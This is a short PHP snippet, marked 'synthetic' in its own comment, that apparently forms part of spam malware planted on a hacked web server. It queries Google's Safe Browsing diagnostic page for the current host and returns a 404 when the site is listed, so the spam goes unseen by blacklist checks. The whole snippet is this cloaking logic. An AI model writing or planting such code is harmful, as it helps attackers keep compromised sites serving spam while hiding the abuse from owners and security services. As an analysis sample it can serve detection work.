<?php
// synthetic: checks whether this hacked host is blacklisted before serving spam
$r = file_get_contents('http://www.google.com/safebrowsing/diagnostic?site=' . urlencode($_SERVER['HTTP_HOST']));
if (strpos($r, 'listed') !== false) { header('HTTP/1.1 404'); exit; }
